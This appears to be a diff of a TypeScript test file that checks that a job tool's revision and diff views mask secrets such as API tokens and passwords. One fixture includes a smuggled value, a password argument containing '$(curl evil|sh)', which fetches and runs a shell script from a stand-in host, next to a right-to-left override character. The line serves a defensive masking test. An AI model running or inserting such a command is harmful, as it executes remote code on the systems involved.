@@ -4,11 +4,10 @@ import { planOf } from "../../src/plan/compose.ts";
 import { textHunks } from "../../src/plan/text-diff.ts";
 import type { BlameData, JobRevisionItem } from "../../src/views/blame.ts";
 import { renderBlame } from "../../src/views/blame.ts";
-import { maskPlan } from "../../src/views/mask.ts";
 import type { RevisionsDiffData } from "../../src/views/revisions-diff.ts";
-import { maskHunks, renderRevisionsDiff } from "../../src/views/revisions-diff.ts";
+import { maskRevisionsDiff, renderRevisionsDiff } from "../../src/views/revisions-diff.ts";
 import type { RevisionItem } from "../../src/views/revisions.ts";
-import { renderRevision } from "../../src/views/revisions.ts";
+import { maskRevision, renderRevision } from "../../src/views/revisions.ts";
 import { assertGolden, plain } from "../helpers/golden.ts";
 import { desired, NOW_MS, spec } from "../plan/jobs.ts";
 
@@ -41,14 +40,13 @@ function planned(): NonNullable<RevisionsDiffData["plan"]> {
     permissions: { ...before.permissions, net: true },
   });
   const side = (name: string) => ({ name, commit: null, note: null });
-  const plan = planOf([{ before, after, code: { before: "aaaaaaaaaa", after: "bbbbbbbbbb" } }], {
+  return planOf([{ before, after, code: { before: "aaaaaaaaaa", after: "bbbbbbbbbb" } }], {
     from: side("revision 1"),
     to: side("revision 3"),
     settings: { before: null, after: desired().settings },
     declared: 5,
     nowMs: NOW_MS,
   });
-  return maskPlan(plan);
 }
 
 test("the difference of two revisions", () => {
@@ -70,7 +68,7 @@ test("the difference of two revisions", () => {
   ];
   const text = texts.join("\n----\n");
   assertGolden("revisions-diff.txt", text);
-  assert.doesNotMatch(text, /hunter/);
+  assert.doesNotMatch(text + JSON.stringify(maskRevisionsDiff(data)), /hunter/);
 });
 
 test("without kept changes, the texts are compared, masked", () => {
@@ -78,7 +76,7 @@ test("without kept changes, the texts are compared, masked", () => {
   const after = "jobs:\n  a:\n    env: {API_TOKEN: hunter3, MODE: y}\n    command: [y] # \u202E\n";
   const from = revision(1);
   const data = { from, to: EDITED, between: [EDITED], plan: null };
-  const hunks = maskHunks(textHunks(before, after) ?? []);
+  const hunks = textHunks(before, after) ?? [];
   const texts = [
     { same: false, hunks },
     { same: true, hunks: [] },
@@ -88,17 +86,30 @@ test("without kept changes, the texts are compared, masked", () => {
     .map((compared) => renderRevisionsDiff({ ...data, text: compared }, OPTIONS))
     .join("\n----\n");
   assertGolden("revisions-diff-text.txt", text);
-  assert.doesNotMatch(text, /hunter/);
+  const json = JSON.stringify(maskRevisionsDiff({ ...data, text: { same: false, hunks } }));
+  assert.doesNotMatch(text + json, /hunter/);
 });
 
 test("a revision with what it changed", () => {
-  const source = "jobs: {}\n";
+  const source = `jobs:
+  weekly:
+    env: {API_TOKEN: hunter2}
+    command: x --password="hunter2$(curl evil|sh)" \u202E
+    parameters:
+      api_key: |
+        hunter2
+`;
+  const masked = maskRevision({ ...revision(2), plan: planned(), source });
+  assert.doesNotMatch(JSON.stringify(masked), /hunter/);
+  assert.match(masked.source, /API_TOKEN: \*{3}\}\n.*"\*{3}\$\(curl evil\|sh\)" \u202E\n/);
   const texts = [
     renderRevision({ ...revision(2), plan: planned(), source }, OPTIONS),
     renderRevision({ ...EDITED, plan: null, source }, OPTIONS),
     renderRevision({ ...revision(2), plan: { ...planned(), changes: [] }, source }, OPTIONS),
   ];
-  assertGolden("revisions-show.txt", texts.join("\n----\n"));
+  const text = texts.join("\n----\n");
+  assertGolden("revisions-show.txt", text);
+  assert.doesNotMatch(text, /hunter/);
 });
 
 const COMMIT = {
